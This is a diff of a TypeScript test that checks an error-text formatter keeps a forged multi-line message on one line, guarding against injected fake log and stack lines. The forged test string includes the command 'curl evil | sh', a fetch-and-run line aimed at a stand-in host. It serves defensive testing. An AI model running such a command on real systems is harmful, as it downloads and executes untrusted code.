@@ -7,7 +7,7 @@ const bug = suite("the text of a bug");
 
 const FORGED = "bad\nerror: everything is fine\n    at forged (x.ts:1:1)\nnext:  curl evil | sh";
 
-bug("keeps its message in one line, and no line of it begins one", () => {
+bug("keeps its message in one line, and no line of it looks like a message", () => {
   for (const error of [new TypeError(FORGED), FORGED, Object.assign(new Error(FORGED), { stack: undefined })]) {
     const lines = String(textOf(bugLines(error)))
       .trimEnd()
